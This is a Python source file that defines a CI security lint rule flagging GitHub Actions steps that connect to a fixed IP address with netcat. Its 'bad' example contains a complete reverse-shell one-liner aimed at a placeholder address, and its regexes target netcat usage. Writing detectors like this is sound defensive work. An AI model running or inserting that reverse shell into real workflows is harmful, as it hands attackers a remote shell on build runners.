from collections.abc import Iterator

from aurora_devops import Finding, Script, bad, good, policy
from aurora_devops.core.lazy import regex

_NETCAT = regex(r"\b(?:nc|ncat|netcat)\b[^\n|;&]*+")
_ADDRESS = regex(r"\s(?!127\.|0\.0\.0\.0)\d{1,3}(?:\.\d{1,3}){3}[^\S\n]++\d{1,5}\b")


@policy(
    "GHA068",
    severity="warning",
    category="security",
    equivalents={"checkov": "CKV_GHA_4"},
    examples=[
        bad(
            """\
            on: push
            jobs:
              build:
                runs-on: ubuntu-24.04
                steps:
                  - run: mkfifo f; cat f | sh -i 2>&1 | «nc 203.0.113.7 4444» > f
            """
        ),
        good(
            """\
            on: push
            jobs:
              build:
                runs-on: ubuntu-24.04
                steps:
                  - run: nc -z 127.0.0.1 5432
            """,
            because="the address is the runner itself",
        ),
    ],
)
def netcat_connection(script: Script) -> Iterator[Finding]:
    """A script connects to a fixed address with netcat.

    Attackers use this to open a shell on the runner.
    Find out who added the command; to check a port, use `nc -z` on a host name.
    """
    if "nc" in script.text or "netcat" in script.text:
        for match in _NETCAT.finditer(script.text):
            address = _ADDRESS.search(match[0])
            if address is not None:
                at = script.place(match.start(), match.start() + address.end())
                command = match[0][: address.end()]
                yield Finding(at=at, message=f"'{command}' connects to a fixed address")
